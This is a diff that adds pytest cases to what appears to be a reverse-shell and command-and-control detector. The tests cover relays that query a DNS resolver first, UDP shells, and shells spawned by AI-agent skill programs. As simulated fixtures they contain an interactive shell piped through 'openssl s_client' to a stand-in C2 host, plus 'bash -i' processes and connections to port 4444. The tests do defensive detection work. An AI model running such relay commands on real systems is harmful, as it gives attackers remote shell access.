@@ -431,3 +431,60 @@ def test_what_ended_is_forgotten() -> None:
     assert not detector._linked
     assert not detector._streams._ends
     assert not detector._streams._held
+
+
+# -- relays that ask a resolver first --------------------------------------------------------------------------------
+
+RESOLVER = "10.77.1.53:53"
+
+
+def _by_relay() -> tuple[Process, list[Activity]]:
+    above = proc("sh -c x")
+    shell, relay = proc("sh -i", above), proc("openssl s_client -quiet -connect c2.example:443", above)
+    return relay, [started(relay, (pipe(1), pipe(2), DEVNULL)), started(shell, (pipe(2), pipe(1), pipe(1)), 0.01)]
+
+
+@pytest.mark.parametrize("l7", ["dns", ""])
+def test_the_resolver_is_not_the_peer(l7: str) -> None:
+    relay, begins = _by_relay()
+    asked = flow(relay, RESOLVER, 0.03, number=8, l7=l7, proto="udp")
+    assert not tell(*begins, asked, until=3)
+    peer = flow(relay, "203.0.113.7:443", 0.05, number=9, domain="c2.example")
+    told = tell(*begins, asked, peer, until=3)
+    assert [f.subject["destination"] for f in told] == ["203.0.113.7:443"]
+    assert told[0].subject["domain"] == "c2.example"
+    assert "c2.example" in told[0].title
+
+
+def test_a_shell_over_udp_is_told_once_no_tcp_came() -> None:
+    relay, begins = _by_relay()
+    over = flow(relay, "203.0.113.7:4444", 0.03, number=8, proto="udp")
+    assert not tell(*begins, over, until=0)[1:]
+    assert [f.subject["destination"] for f in tell(*begins, over, until=3)] == ["203.0.113.7:4444"]
+
+
+# -- agents ----------------------------------------------------------------------------------------------------------
+
+
+def _by_agent(script: str) -> tuple[Process, list[Activity]]:
+    agent = proc(f"python3 {script}")
+    shell = proc("bash -i", agent)
+    return agent, [system(agent, "pty", 0.1, number=3), started(shell, (tty(3), tty(3), tty(3)), 0.2)]
+
+
+SKILL = "/home/app/.openclaw/bin/core.py"
+
+
+def test_a_program_in_an_agents_folder_is_no_agent() -> None:
+    """A skill's own program: it never spoke to a model, and what came over its connection is no protocol."""
+    who, begins = _by_agent(SKILL)
+    assert worst(tell(flow(who, EVIL, 0), *begins, payload(who, EVIL, 0.5, 0, 20))) == "high"
+
+
+def test_an_agents_terminal_is_its_own() -> None:
+    who, begins = _by_agent(SKILL)
+    raw = payload(who, EVIL, 0.5, 0, 20)
+    assert not tell(flow(who, "198.51.100.1:443", 0, l7="tls", provider="openai"), flow(who, EVIL, 0), *begins, raw)
+    assert not tell(flow(who, EVIL, 0, l7="tls"), *begins, flow(who, EVIL, 0.5, l7="tls", began=False, received=500))
+    assert not tell(flow(who, "127.0.0.1:4444", 0), *begins, payload(who, "127.0.0.1:4444", 0.5, 0, 20))
+    assert not tell(flow(who, EVIL, 0), exchange(who, at=0.05), *begins, raw)
